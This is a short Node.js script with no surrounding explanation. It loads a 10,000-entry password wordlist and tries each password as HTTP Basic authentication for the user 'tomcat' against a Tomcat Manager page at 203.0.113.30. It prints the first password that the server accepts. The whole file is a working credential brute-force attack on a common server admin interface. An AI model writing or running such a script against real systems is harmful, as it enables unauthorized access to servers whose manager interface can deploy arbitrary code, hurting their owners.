const fs = require('fs');
(async () => {
  for (const p of fs.readFileSync('/usr/share/seclists/Passwords/10k.txt', 'utf8').split('\n')) {
    const r = await fetch('http://203.0.113.30/manager/html', { headers: { Authorization: 'Basic ' + btoa('tomcat:' + p) } });
    if (r.status === 200) { console.log(p); break; }
  }
})();
